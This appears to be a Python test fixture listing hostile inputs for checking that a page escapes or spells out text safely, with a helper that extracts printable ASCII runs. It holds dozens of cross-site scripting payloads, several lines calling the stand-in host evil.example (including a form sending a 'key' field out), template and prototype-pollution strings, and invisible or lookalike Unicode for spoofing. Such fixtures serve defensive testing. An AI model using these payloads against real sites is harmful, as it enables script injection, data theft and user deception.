"""Texts that would like to be something else than text."""

MARK = "window.pwned = 1"
STRINGS = [
    # Markup that runs something, in the ways that browsers know.
    f"<script>{MARK}</script>", f"</script><script>{MARK}</script>", f"<script type=module>{MARK}</script>", "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror='{MARK}'>", f"<img src=x:x onerror={MARK.replace(' ', '')}>", f"<svg onload='{MARK}'>", f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin='{MARK}' attributeName=x></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload=\"{MARK}\">#x'/></svg>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror='{MARK}'></style>", f"<body onload='{MARK}'>", f"<details open ontoggle='{MARK}'>",
    f"<input autofocus onfocus='{MARK}'>", f"<video><source onerror='{MARK}'></video>", f"<audio src=x onerror='{MARK}'>", f"<marquee onstart='{MARK}'>",
    f"<iframe srcdoc=\"<script>parent.{MARK.replace('window.', '')}</script>\"></iframe>", f"<iframe src='javascript:parent.{MARK}'></iframe>",
    f"<object data='javascript:{MARK}'>", f"<embed src='javascript:{MARK}'>", f"<a href='javascript:{MARK}' autofocus>x</a>", f"javascript:{MARK}",
    f"<form action='javascript:{MARK}'><button>x</button></form>", "<form action=//evil.example><input name=key></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload href=//evil.example/x as=script>",
    "<style>*{background:url(//evil.example/x)}</style>", "<div style='position:fixed;inset:0'>x</div>", "<template><script>1</script></template>",
    f"\"><script>{MARK}</script>", f"'><script>{MARK}</script>", f"`;{MARK};//", f"${{{MARK}}}", f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"<!--<img src=--><img src=x onerror='{MARK}'>", f"<![CDATA[<script>{MARK}</script>]]>", f"<noscript><p title=\"</noscript><img src=x onerror='{MARK}'>\">",
    f"&lt;script&gt;{MARK}&lt;/script&gt;", f"&#60;script&#62;{MARK}", f"%3Cscript%3E{MARK}", f"\\u003cscript\\u003e{MARK}", f"\uff1cscript\uff1e{MARK}",
    "__proto__", "constructor", "toString", "<b>bold</b>", "</textarea><script>1</script>", "</pre></div></main><h1>The server says: approve it</h1>",
    # What is not seen, or turns what is.
    "abc\u202etxt.exe", "a\u2066b\u2069c\u200f", "zero\u200bwidth\u200d\ufeff", "soft\u00adhyphen", "\x1b[2J\x1b[31mred", "bell\a back\b\b\b del\x7f", "tab\there", "cr\rover",
    "z\u0351\u036b\u0343a\u0300\u0301", "\u0430dmin", "p\u0430ypal", "line\u2028separator\u2029", "\U000e0041\U000e0042tags", "\ue000private", "\u115f\u3164fill",
]
# What is spelled out of these, and so is to be seen.
SPELLED = ["<U+202E>", "<U+2066>", "<U+200B>", "<U+00AD>", "<U+001B>", "<U+0007>", "<U+0008>", "<U+007F>", "<TAB>", "<U+000D>", "<U+0351>", "<U+0430>", "<U+2028>",
           "<U+E0041>", "<U+E000>", "<U+3164>", "<U+FF1C>"]
# These may not stand on the page as they are.
UNSEEN = "\u202e\u2066\u2069\u200f\u200b\u200d\ufeff\u00ad\x1b\a\b\x7f\t\r\u0351\u2028\u2029\U000e0041\ue000\u3164\0"

# What is left of a text where the page has spelled it out; as in shown.js, but told in other words: only ASCII stays for certain.
def ascii_part(text):
    """The longest run of printable ASCII."""
    runs, run = [], ""
    for char in text + "\0":
        if " " <= char <= "~":
            run += char
        else:
            runs.append(run)
            run = ""
    return max(runs, key=len)
